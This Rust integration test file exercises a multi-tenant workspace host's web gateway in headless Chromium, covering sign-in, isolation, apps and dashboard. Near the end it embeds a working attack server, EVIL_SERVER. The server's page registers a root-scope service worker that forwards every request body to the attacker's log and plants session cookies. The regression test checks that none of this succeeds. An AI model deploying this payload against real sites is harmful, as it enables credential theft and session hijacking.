//! The web gateway in real headless Chromium (Debian's, driven by playwright-core from npm:
//! `web/tests/browser.mjs`) against the real daemon and engine: sign in and out, the terminal,
//! JupyterLab, VS Code and the desktop in one workspace sharing its home with SSH, another
//! tenant's pages refused, and the admin dashboard. Screenshots land in
//! `target/screenshots/` (docs/screenshots/ holds copies for the README).
//!
//! Needs the desktop image profile (`hostel image build --profile desktop`, which the test
//! command runs), `chromium` and `web/node_modules` (the test command installs both).

// Test code: a failed unwrap is a failed test.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use hostel_testkit::{Daemon, TestRun};
use std::path::PathBuf;
use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_hostel");
const PASSWORD: &str = "correct horse battery staple";

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// Runs one browser scenario; returns its findings, or panics with what the browser said.
fn browser(d: &Daemon, scenario: &str, env: &[(&str, &str)]) -> serde_json::Value {
    let shots = repo().join("target/screenshots");
    let out = Command::new("node")
        .arg(repo().join("web/tests/browser.mjs"))
        .arg(scenario)
        .env("HOSTEL_URL", format!("http://127.0.0.1:{}", d.http_port))
        .env("HOSTEL_SHOTS", &shots)
        .envs(env.iter().copied())
        .output()
        .expect("node is needed (scripts/test installs what the browser tests use)");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "browser scenario {scenario} failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let found: serde_json::Value = serde_json::from_str(stdout.lines().last().unwrap()).unwrap();
    eprintln!("{found}");
    found
}

fn with_password(t: &TestRun, name: &str) {
    t.hostel_with_stdin(&["passwd", name], format!("{PASSWORD}\n").as_bytes())
        .ok();
}

#[test]
fn a_tenant_with_only_a_browser_works_in_terminal_notebook_editor_and_desktop() {
    let t = TestRun::new(BIN);
    let big = [
        "--image", "desktop", "--memory", "3G", "--disk", "2G", "--pids", "2048",
    ];
    let a = t.create_tenant("web", &big);
    let b = t.create_tenant("other", &[]);
    with_password(&t, &a);
    with_password(&t, &b);
    let d = t.serve();
    let me = [("HOSTEL_TENANT", a.as_str()), ("HOSTEL_PASSWORD", PASSWORD)];

    // Sign in and out; the wrong password is audited like a failed SSH login.
    browser(&d, "login", &me);
    let audit = t.hostel(&["--json", "audit"]).ok().json();
    let auth: Vec<_> = audit
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "web.auth.v1")
        .collect();
    assert!(
        auth.iter()
            .any(|e| e["outcome"] == "denied" && e["tenant"] == a.as_str()),
        "{auth:?}"
    );
    assert!(
        auth.iter()
            .any(|e| e["outcome"] == "ok" && e["actor"] == format!("web:{a}")),
        "{auth:?}"
    );

    // The terminal wakes a stopped workspace; then again with it running.
    t.hostel(&["stop", &a]).ok();
    let stopped = browser(&d, "terminal", &me);
    let running = browser(&d, "terminal", &me);
    eprintln!(
        "login -> prompt: stopped {} ms, running {} ms; echo median {:.1} ms",
        stopped["login_to_prompt_ms"], running["login_to_prompt_ms"], running["echo_median_ms"]
    );

    // Another tenant's pages and socket are refused, and audited.
    let mut other = me.to_vec();
    other.push(("HOSTEL_OTHER", b.as_str()));
    browser(&d, "isolation", &other);
    let audit = t.hostel(&["--json", "audit"]).ok().json();
    let denied = audit
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "web.denied.v1" && e["actor"] == format!("web:{a}"))
        .count();
    assert!(denied >= 5, "{denied} web.denied records");

    // JupyterLab writes a file that SSH sees (from a stopped workspace, then a running one).
    t.hostel(&["stop", &a]).ok();
    let cold = browser(&d, "jupyter", &me);
    let warm = browser(&d, "jupyter", &me);
    eprintln!(
        "JupyterLab first paint: stopped {} ms, running {} ms",
        cold["first_paint_ms"], warm["first_paint_ms"]
    );
    let key = "web-key";
    let r = t.ssh(&d, key, &a, &["cat from-jupyter.txt"]).ok();
    assert_eq!(r.stdout, "written in JupyterLab");

    // VS Code shows the home, with a file SSH put there.
    t.ssh(&d, key, &a, &["echo hi > hello-from-ssh.txt"]).ok();
    let mut file = me.to_vec();
    file.push(("HOSTEL_FILE", "hello-from-ssh.txt"));
    browser(&d, "code", &file);

    // The desktop paints (from a stopped workspace, then a running one).
    t.hostel(&["stop", &a]).ok();
    let cold = browser(&d, "desktop", &me);
    let warm = browser(&d, "desktop", &me);
    eprintln!(
        "desktop first paint: stopped {} ms, running {} ms",
        cold["first_paint_ms"], warm["first_paint_ms"]
    );

    // The apps listen on the workspace's own loopback, never on a host port, and not on the
    // workspace's address either: the host's users cannot reach an app that has no password.
    let ports = hostel_testkit::docker(&["port", &format!("hostel-{a}")]);
    assert_eq!(ports.stdout.trim(), "", "{ports:?}");
    let ip = hostel_testkit::docker(&[
        "inspect",
        "-f",
        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
        &format!("hostel-{a}"),
    ]);
    let ip: std::net::IpAddr = ip.stdout.trim().parse().unwrap();
    let sockets = t
        .ssh(&d, key, &a, &["cat /proc/net/tcp /proc/net/tcp6"])
        .ok();
    assert!(
        sockets.stdout.lines().any(|l| l
            .split_whitespace()
            .nth(1)
            .is_some_and(|at| at.ends_with(":17C0"))
            && l.split_whitespace().nth(3) == Some("0A")),
        "the desktop listens on 6080: {}",
        sockets.stdout
    );
    let direct =
        std::net::TcpStream::connect_timeout(&(ip, 6080).into(), std::time::Duration::from_secs(2));
    assert!(direct.is_err(), "the desktop answered on {ip}:6080");
}

#[test]
fn the_admin_dashboard_creates_and_purges_a_tenant() {
    let t = TestRun::new(BIN);
    let d = t.serve();
    let token = t.hostel(&["--json", "token", "create", "dash"]).ok().json()["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let name = t.tenant("dash");
    let key = t.keypair("dash-key");
    let public = std::fs::read_to_string(key).unwrap();
    let found = browser(
        &d,
        "admin",
        &[
            ("HOSTEL_ADMIN_TOKEN", token.as_str()),
            ("HOSTEL_NEW", name.as_str()),
            ("HOSTEL_KEY", public.trim()),
        ],
    );
    // The changes were the token's, and the tenant is gone for good.
    assert!(
        found["actors"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a == "api:dash"),
        "{found}"
    );
    let r = t.hostel(&["info", &name]);
    assert_eq!(r.code, 3, "{r:?}");
    assert!(!t.home(&name).exists());
}

/// #18: the dashboard draws the host's charts and each tenant's, from the daemon's looks, in
/// a real browser.
#[test]
fn issue_18_the_dashboard_draws_charts_in_a_browser() {
    let t = TestRun::with_config(BIN, "[lifecycle]\ncheck_secs = 1\n");
    let d = t.serve();
    let name = t.create_tenant("chart", &[]);
    let token = t
        .hostel(&["--json", "token", "create", "charts", "--role", "viewer"])
        .ok()
        .json()["token"]
        .as_str()
        .unwrap()
        .to_owned();
    // Two looks make a line.
    let path = format!("/api/tenants/{name}/history");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let (_, body) = d.api("GET", &path, Some(&token), None);
        let h: serde_json::Value = serde_json::from_str(&body).unwrap_or_default();
        if h["points"].as_array().is_some_and(|p| p.len() >= 2) {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "no history: {h}");
        std::thread::sleep(std::time::Duration::from_millis(300));
    }
    let found = browser(&d, "dashboard", &[("HOSTEL_ADMIN_TOKEN", token.as_str())]);
    assert_eq!(found["hour"]["rows"], 1, "{found}");
    assert!(found["hour"]["lines"].as_u64().unwrap() >= 3, "{found}");
    assert_eq!(found["week"]["host_charts"], 5, "{found}");
}

/// What the attacker's app serves (any path): a page that tries to take hostel's origin over
/// with a service worker and planted cookies, the worker, and a log of every request it sees,
/// bodies included, in `~/evil.log`.
const EVIL_SERVER: &str = r#"
import http.server, sys, os
LOG = os.path.expanduser("~/evil.log")
PAGE = b"""<!doctype html><title>evil</title><script>
(async () => {
  const r = {};
  try { await navigator.serviceWorker.register("sw.js", { scope: "/" }); r.sw_root = true; }
  catch (e) { r.sw_root = false; r.sw_root_error = String(e); }
  try { await navigator.serviceWorker.register("sw.js"); r.sw_own = true; }
  catch (e) { r.sw_own = false; }
  for (const path of ["/portal", "/login", "/admin"]) document.cookie = `hostel_session=planted; path=${path}`;
  if (location.hostname.endsWith(".hostel.test")) document.cookie = "hostel_session=planted; path=/; domain=hostel.test";
  window.attack = r;
})();
</script>"""
WORKER = b"""
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const req = e.request.clone();
  e.waitUntil(req.text().then((b) => fetch("log", { method: "POST", body: req.url + " " + b })).catch(() => {}));
});
"""
class H(http.server.BaseHTTPRequestHandler):
    def answer(self):
        n = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(n) if n else b""
        with open(LOG, "ab") as f:
            f.write(b"%s %s %s\n" % (self.command.encode(), self.path.encode(), body))
        if self.path.endswith("sw.js"):
            data, kind = WORKER, "application/javascript"
        else:
            data, kind = PAGE, "text/html"
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("service-worker-allowed", "/")
        self.send_header("set-cookie", "hostel_session=fixated; Path=/")
        self.send_header("set-cookie", "planted_admin=1; Path=/admin")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    do_GET = do_POST = answer
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
"#;

/// Regression (#12): a tenant's app page registered a service worker for `/` on the origin it
/// shared with hostel, planted cookies for hostel's paths and read a password typed into
/// hostel's sign-in page in the same browser later. In both modes, nothing of it works.
fn origin_attack(domain: bool) {
    let config = if domain {
        "\n[http]\ndomain = \"hostel.test\"\n"
    } else {
        "\n[http]\nhosts = [\"hostel.test\"]\n"
    };
    let t = TestRun::with_config(BIN, config);
    // On a shared origin the page must come from an app (the dev image's JupyterLab port);
    // on its own, from a port the tenant publishes.
    let evil = if domain {
        t.create_tenant("evil", &[])
    } else {
        t.create_tenant("evil", &["--image", "dev"])
    };
    let victim = t.create_tenant("victim", &[]);
    with_password(&t, &evil);
    with_password(&t, &victim);
    let port = if domain { 8000 } else { 8888 };
    let started = t.sh(
        &evil,
        &format!(
            "cat > ~/evil.py <<'PY'\n{EVIL_SERVER}\nPY\n\
             (nohup python3 ~/evil.py {port} >/dev/null 2>&1 &); \
             for i in $(seq 50); do grep -q ':{port:04X} ' /proc/net/tcp && exit 0; sleep 0.1; done; exit 1"
        ),
    );
    assert_eq!(started.code, 0, "{}", started.stderr);
    if domain {
        t.hostel(&["port", "publish", &evil, "8000"]).ok();
    }
    let d = t.serve();
    let base = format!("http://hostel.test:{}", d.http_port);
    let attack_url = if domain {
        format!(
            "http://8000--{evil}.hostel.test:{}/attack.html",
            d.http_port
        )
    } else {
        format!("{base}/u/{evil}/jupyter/attack.html")
    };
    let found = browser(
        &d,
        "origin-attack",
        &[
            ("HOSTEL_URL", base.as_str()),
            ("HOSTEL_EVIL", evil.as_str()),
            ("HOSTEL_TENANT", victim.as_str()),
            ("HOSTEL_PASSWORD", PASSWORD),
            ("HOSTEL_ATTACK_URL", attack_url.as_str()),
        ],
    );
    let log = t.sh(&evil, "cat ~/evil.log").stdout;
    assert!(log.contains("attack.html"), "the page was served: {log}");
    assert!(
        !log.contains("horse") && !log.contains(&format!("name={victim}")),
        "the victim's sign-in reached the attacker:\n{log}"
    );
    assert_eq!(found["controlled"], false, "{found}");
    assert_ne!(
        found["heading"],
        evil.as_str(),
        "signed in as the attacker: {found}"
    );
    let cookies = found["cookies"].to_string();
    assert!(
        !cookies.contains("fixated") && !cookies.contains("planted_admin"),
        "{cookies}"
    );
    if domain {
        assert_eq!(
            found["attack_origin"],
            format!("http://8000--{evil}.hostel.test:{}", d.http_port)
        );
    } else {
        assert_eq!(found["attack"]["sw_root"], false, "{found}");
        assert_eq!(found["attack"]["sw_own"], false, "{found}");
    }
}

#[test]
fn issue_12_an_app_page_cannot_take_over_a_shared_origin() {
    origin_attack(false);
}

#[test]
fn issue_12_an_app_page_on_its_own_origin_cannot_reach_hostels() {
    origin_attack(true);
}
